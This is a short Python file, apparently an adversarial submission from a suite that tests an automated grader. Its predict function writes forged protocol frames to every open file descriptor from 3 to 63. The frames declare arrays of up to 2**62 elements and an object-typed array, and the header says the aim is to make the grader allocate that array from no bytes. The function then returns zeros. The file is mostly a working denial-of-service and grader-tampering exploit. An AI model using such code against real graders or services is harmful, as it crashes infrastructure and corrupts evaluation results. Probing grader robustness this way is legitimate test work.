# Tries to have the grader make an array of 2**62 numbers, out of no bytes.
# expects: predict
# class: wire
# falls: unittest lost
import json
import os
import struct


def send(frame):
    for handle in range(3, 64):
        try:
            os.write(handle, frame)
        except OSError:
            pass


def frame(head, values=(), arrays=(), sizes=()):
    header = json.dumps({"head": head, "values": values, "arrays": arrays, "sizes": sizes}).encode()
    return struct.pack("<II", 4 + len(header), len(header)) + header



def predict(theta, X):
    arrays = [["<f8", [0, 2**62], 0], ["<f8", [2**31, 2**33], 0], ["|O", [1], 0]]
    send(frame({"answers": [["value", []]]}, [{"a": 1}, {"a": 0}], arrays, [0]))
    return np.zeros(len(X))
